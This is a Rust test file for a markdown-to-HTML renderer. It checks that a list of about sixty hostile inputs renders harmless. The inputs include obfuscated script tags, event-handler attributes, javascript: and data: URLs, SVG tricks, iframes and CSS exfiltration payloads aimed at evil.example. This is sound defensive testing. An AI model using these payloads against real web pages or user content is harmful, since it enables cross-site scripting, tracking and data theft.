//! Hostile note content through the renderer: every payload must come out inert. The checks
//! read the sanitized HTML tag by tag: only whitelisted tags, no event handlers, no styles,
//! no URL outside https/http/mailto/coffer, images only from inside Coffer.

use coffer_core::render::render_markdown;

const PAYLOADS: &[&str] = &[
    // Script tags in every costume.
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\n>alert(1)</script\n>",
    "<<script>alert(1);//<</script>",
    // Event handlers.
    "<img src=x onerror=alert(1)>",
    "<img src=x OnErRoR=alert(1)>",
    "<body onload=alert(1)>",
    "<div onmouseover=\"alert(1)\">hover</div>",
    "<a href=\"https://ok.example\" onclick=\"alert(1)\">x</a>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<img src=x onerror=&#97;lert(1)>",
    // javascript: and data: URLs, obfuscated.
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](  javascript:alert(1))",
    "[x](java\tscript:alert(1))",
    "<a href=\"&#106;avascript:alert(1)\">x</a>",
    "<a href=\"&#x6A;&#x61;&#x76;&#x61;script:alert(1)\">x</a>",
    "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
    "<a href=\"vbscript:msgbox(1)\">x</a>",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
    "[x](file:///etc/passwd)",
    "[x](smb://evil.example/share)",
    "[x](\\\\evil.example\\share)",
    "[x](ms-settings:)",
    // SVG.
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><use href=\"https://evil.example/x.svg#a\"/></svg>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    // Frames and embedded objects.
    "<iframe src=\"https://evil.example\"></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<embed src=\"https://evil.example/x.swf\">",
    "<object data=\"https://evil.example/x\"></object>",
    "<frameset><frame src=\"https://evil.example\"></frameset>",
    // Document-level tricks.
    "<base href=\"https://evil.example/\">",
    "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example\">",
    "<link rel=stylesheet href=\"https://evil.example/x.css\">",
    "<form action=\"https://evil.example\"><button>go</button></form>",
    // CSS that loads or exfiltrates.
    "<style>@import 'https://evil.example/x.css';</style>",
    "<style>input[value^=a]{background:url(https://evil.example/a)}</style>",
    "<div style=\"background:url(https://evil.example/x)\">x</div>",
    "<p style=\"behavior:url(x.htc)\">x</p>",
    // Remote loads.
    "![tracker](https://evil.example/pixel.png)",
    "![tracker](http://evil.example/pixel.png \"title\")",
    "<img src=\"https://evil.example/pixel.png\">",
    "<img srcset=\"https://evil.example/a.png 1x\">",
    "<audio src=\"https://evil.example/a.mp3\" autoplay></audio>",
    "<picture><source srcset=\"https://evil.example/a.png\"></picture>",
    // Markdown syntax carrying the same.
    "[click](<javascript:alert(1)>)",
    "[ref]\n\n[ref]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "![x](javascript:alert(1))",
    "[![x](https://evil.example/i.png)](javascript:alert(1))",
    "[[<script>alert(1)</script>]]",
    "[[x|<img src=x onerror=alert(1)>]]",
    "`<script>` stays code: <script>alert(1)</script>",
];

const ALLOWED_TAGS: &[&str] = &[
    "a",
    "abbr",
    "acronym",
    "area",
    "article",
    "aside",
    "b",
    "bdi",
    "bdo",
    "blockquote",
    "br",
    "caption",
    "center",
    "cite",
    "code",
    "col",
    "colgroup",
    "data",
    "dd",
    "del",
    "details",
    "dfn",
    "div",
    "dl",
    "dt",
    "em",
    "figcaption",
    "figure",
    "footer",
    "h1",
    "h2",
    "h3",
    "h4",
    "h5",
    "h6",
    "header",
    "hgroup",
    "hr",
    "i",
    "img",
    "input",
    "ins",
    "kbd",
    "li",
    "map",
    "mark",
    "nav",
    "ol",
    "p",
    "pre",
    "q",
    "rp",
    "rt",
    "rtc",
    "ruby",
    "s",
    "samp",
    "small",
    "span",
    "strike",
    "strong",
    "sub",
    "summary",
    "sup",
    "table",
    "tbody",
    "td",
    "th",
    "thead",
    "time",
    "tr",
    "tt",
    "u",
    "ul",
    "var",
    "wbr",
    "sup",
    "section",
];

const URL_ATTRS: &[&str] = &[
    "href",
    "src",
    "cite",
    "longdesc",
    "action",
    "formaction",
    "srcset",
    "xlink:href",
    "data",
];

/// (tag name, [(attribute, value)]) for every start tag of sanitized, well-formed HTML.
fn tags(html: &str) -> Vec<(String, Vec<(String, String)>)> {
    let mut out = Vec::new();
    let mut rest = html;
    while let Some(i) = rest.find('<') {
        rest = &rest[i + 1..];
        if rest.starts_with('/') {
            continue;
        }
        let end = rest.find('>').expect("well-formed output");
        let inner = &rest[..end];
        let name_end = inner.find([' ', '/']).unwrap_or(inner.len());
        let name = inner[..name_end].to_lowercase();
        let mut attrs = Vec::new();
        let mut a = &inner[name_end..];
        loop {
            a = a.trim_start_matches([' ', '/']);
            if a.is_empty() {
                break;
            }
            let eq = a.find(['=', ' ']).unwrap_or(a.len());
            let key = a[..eq].to_lowercase();
            a = &a[eq..];
            let mut value = String::new();
            if let Some(v) = a.strip_prefix("=\"") {
                let close = v.find('"').expect("quoted attribute");
                value = v[..close].to_string();
                a = &v[close + 1..];
            }
            attrs.push((key, value));
        }
        out.push((name, attrs));
    }
    out
}

fn decode_entities(s: &str) -> String {
    s.replace("&amp;", "&")
        .replace("&quot;", "\"")
        .replace("&lt;", "<")
        .replace("&gt;", ">")
}

#[test]
fn every_payload_renders_inert() {
    assert!(PAYLOADS.len() >= 40);
    for payload in PAYLOADS {
        let html = render_markdown(payload, &|_| None);
        for (tag, attrs) in tags(&html) {
            assert!(
                ALLOWED_TAGS.contains(&tag.as_str()),
                "{payload:?}: tag <{tag}> in {html}"
            );
            for (key, value) in attrs {
                assert!(
                    !key.starts_with("on"),
                    "{payload:?}: handler {key} in {html}"
                );
                assert!(
                    key != "style" && key != "srcdoc" && key != "srcset",
                    "{payload:?}: {key} in {html}"
                );
                if URL_ATTRS.contains(&key.as_str()) {
                    let v = decode_entities(&value).trim().to_lowercase();
                    let ok = if tag == "img" {
                        v.starts_with("coffer:")
                    } else {
                        ["https:", "http:", "mailto:", "coffer:"]
                            .iter()
                            .any(|s| v.starts_with(s))
                    };
                    assert!(ok, "{payload:?}: <{tag} {key}={value:?}> in {html}");
                }
            }
        }
        let lower = html.to_lowercase();
        assert!(!lower.contains("<script"), "{payload:?}: {html}");
    }
}

#[test]
fn remote_images_become_links_not_loads() {
    let html = render_markdown("![tracker](https://evil.example/pixel.png)", &|_| None);
    assert!(!html.contains("<img"), "{html}");
    assert!(
        html.contains("href=\"https://evil.example/pixel.png\""),
        "{html}"
    );
    assert!(
        html.contains("rel=\"noopener noreferrer nofollow\""),
        "{html}"
    );
}

#[test]
fn hostile_wiki_link_targets_stay_text() {
    let html = render_markdown("[[a\" onmouseover=\"alert(1)]]", &|_| {
        Some("x\" onclick=\"y".into())
    });
    for (_, attrs) in tags(&html) {
        assert!(attrs.iter().all(|(k, _)| !k.starts_with("on")), "{html}");
    }
}

#[test]
fn the_checker_itself_sees_bad_markup() {
    let t = tags("<p><img src=\"https://x.example/a.png\" onerror=\"alert(1)\"></p><script>");
    assert_eq!(t[1].0, "img");
    assert_eq!(t[1].1[0], ("src".into(), "https://x.example/a.png".into()));
    assert_eq!(t[1].1[1].0, "onerror");
    assert_eq!(t[2].0, "script");
}
